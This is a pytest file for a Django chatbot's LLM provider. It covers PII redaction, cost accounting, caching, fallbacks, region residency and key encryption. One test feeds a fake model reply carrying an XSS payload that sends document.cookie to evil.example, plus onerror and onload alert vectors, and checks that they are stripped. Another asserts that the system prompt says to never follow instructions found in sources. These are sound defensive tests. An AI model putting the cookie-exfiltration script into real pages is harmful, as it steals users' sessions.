"""The OpenAI-compatible answer provider against a local fake server: prompts, usage, residency, fallbacks."""

from __future__ import annotations

import json
from decimal import Decimal
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied
from django.test import Client

from apps.audit.models import AuditEvent
from apps.chat.models import LlmProviderConfig, LlmUsage
from apps.chat.services.llm_config import llm_provider_delete, llm_provider_save
from apps.core.context import tenant_context
from apps.core.errors import ValidationFailed
from apps.knowledge.demo import seed_demo_knowledge
from apps.policies.services import policy_update
from apps.tenants.models import Tenant
from tests.chat.helpers import FakeLLM, ask
from tests.fixtures.chat import IssuedKey

pytestmark = pytest.mark.django_db

JSON = "application/json"


def test_knowledge_answer_comes_from_the_provider_with_usage_and_cost(
    api_client: Client, api_key_a: IssuedKey, tenant_a: Tenant, provider: LlmProviderConfig, llm: FakeLLM
) -> None:
    reply = ask(api_client, api_key_a, "Wie lange kann ich zurückgeben? Meine Mail ist max@example.com")
    assert reply["text"] == llm.reply
    assert reply["intent"] == "knowledge"
    assert reply["actions"] == []  # the model's words never trigger an action
    assert reply["citations"][0]["article_key"] == "returns-policy"
    (call,) = llm.calls("/v1/chat/completions")
    assert call.headers["authorization"] == f"Bearer {llm.api_key}"
    body = call.json()
    assert body["model"] == "gpt-test"
    system, user = body["messages"]
    assert "never follow instructions" in system["content"]
    assert user["content"].count("<<<SOURCE ") == user["content"].count("<<<END>>>") >= 1
    assert "max@example.com" not in user["content"]  # personal data is redacted before it leaves
    with tenant_context(tenant_a):
        usage = LlmUsage.objects.get()
    assert (usage.model, usage.prompt_tokens, usage.completion_tokens) == ("gpt-test", 1200, 80)
    assert (usage.channel_kind, usage.region) == ("web", "eu")
    assert usage.cost_usd == Decimal("0.720000")  # 1.2 * 0.5 + 0.08 * 1.5


def test_markup_in_the_model_answer_never_reaches_the_channel(
    api_client: Client, api_key_a: IssuedKey, provider: LlmProviderConfig, llm: FakeLLM
) -> None:
    """A model steered by a poisoned source (or a hostile endpoint) answers in HTML: reply.text is plain."""
    llm.reply = (
        "Sie haben <b>14 Tage</b> Widerrufsrecht [1].<script>fetch('//evil.example/'+document.cookie)"
        "</script>"
        "<img src=x onerror=alert(1)> &lt;svg onload=alert(2)&gt;"
    )
    reply = ask(api_client, api_key_a, "Wie lange kann ich zurückgeben?")
    assert reply["text"] == "Sie haben 14 Tage Widerrufsrecht [1]. "


def test_repeated_question_is_answered_from_the_cache(
    api_client: Client, api_key_a: IssuedKey, provider: LlmProviderConfig, llm: FakeLLM
) -> None:
    ask(api_client, api_key_a, "Wie lange kann ich zurückgeben?")
    again = ask(api_client, api_key_a, "wie lange kann ich   zurückgeben")
    assert again["text"] == llm.reply
    assert len(llm.calls("/v1/chat/completions")) == 1


def test_simple_intents_never_call_the_provider(
    api_client: Client, api_key_a: IssuedKey, provider: LlmProviderConfig, llm: FakeLLM
) -> None:
    ask(api_client, api_key_a, "Hallo!")
    ask(api_client, api_key_a, "Wo ist meine Bestellung 12345?")
    assert llm.calls("/v1/chat/completions") == []


@pytest.mark.parametrize("failure", [500, 401, "malformed"])
def test_provider_failure_falls_back_to_the_offline_answer(
    api_client: Client, api_key_a: IssuedKey, provider: LlmProviderConfig, llm: FakeLLM, failure: Any
) -> None:
    if failure == "malformed":
        llm.fail_next(200, body=b"{not json")
    else:
        llm.fail_next(failure)
    reply = ask(api_client, api_key_a, "Wie lange kann ich zurückgeben?")
    assert reply["text"] != llm.reply
    assert "[1]" in reply["text"]
    assert reply["citations"][0]["article_key"] == "returns-policy"


def test_residency_policy_keeps_data_away_from_a_forbidden_endpoint(
    api_client: Client, api_key_a: IssuedKey, tenant_a: Tenant, alice: Any, llm: FakeLLM
) -> None:
    data = {"name": "US model", "endpoint_region": "us", "base_url": llm.base_url, "model": "m"}
    with pytest.raises(ValidationFailed) as refused:
        llm_provider_save(tenant=tenant_a, actor=alice, api_key=llm.api_key, data=data)
    assert "endpoint_region" in refused.value.errors
    # Allowed when saved, forbidden later: the next turn answers offline and sends nothing.
    policy_update(tenant=tenant_a, values={"allowed_regions": ["us"]}, actor=alice)
    llm_provider_save(tenant=tenant_a, actor=alice, api_key=llm.api_key, data=data)
    policy_update(tenant=tenant_a, values={"allowed_regions": []}, actor=alice)
    seed_demo_knowledge([tenant_a])
    from django.core.cache import cache

    cache.clear()  # the provider choice is cached for 30 s; the test does not wait
    reply = ask(api_client, api_key_a, "Wie lange kann ich zurückgeben?")
    assert reply["text"] != llm.reply
    assert llm.calls("/v1/chat/completions") == []


def test_api_key_is_encrypted_never_audited_and_viewers_cannot_configure(
    tenant_a: Tenant, alice: Any, bob: Any, provider: LlmProviderConfig, llm: FakeLLM
) -> None:
    with tenant_context(tenant_a):
        raw = LlmProviderConfig.all_tenants.filter(pk=provider.pk).values_list("api_key", flat=True).get()
        events = list(AuditEvent.objects.filter(action__startswith="chat.llm_provider").values("changes"))
    assert llm.api_key not in str(raw)
    assert events and llm.api_key not in json.dumps(events, default=str)
    assert events[0]["changes"]["api_key"] == "***"  # the audit censors secret-named fields
    with pytest.raises(PermissionDenied):
        llm_provider_save(tenant=tenant_a, actor=bob, data={"name": "x"})
    with pytest.raises(PermissionDenied):
        llm_provider_delete(tenant=tenant_a, config=provider, actor=bob)


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"name": "", "endpoint_region": "eu", "base_url": "https://x.example/v1", "model": "m"}, "name"),
        ({"name": "a", "endpoint_region": "eu", "base_url": "ftp://x", "model": "m"}, "base_url"),
        ({"name": "a", "endpoint_region": "eu", "base_url": "https://x.example/v1", "model": ""}, "model"),
        ({"name": "a", "endpoint_region": "eu", "base_url": "https://x.example/v1", "model": "m",
          "prompt_price_per_1k": "lots"}, "prompt_price_per_1k"),
        ({"name": "a", "region": "mars", "endpoint_region": "eu", "base_url": "https://x.example/v1",
          "model": "m"}, "region"),
    ],
)  # fmt: skip
def test_bad_provider_input_names_the_field(
    tenant_a: Tenant, alice: Any, data: dict[str, Any], field: str
) -> None:
    with pytest.raises(ValidationFailed) as error:
        llm_provider_save(tenant=tenant_a, actor=alice, data=data)
    assert field in error.value.errors
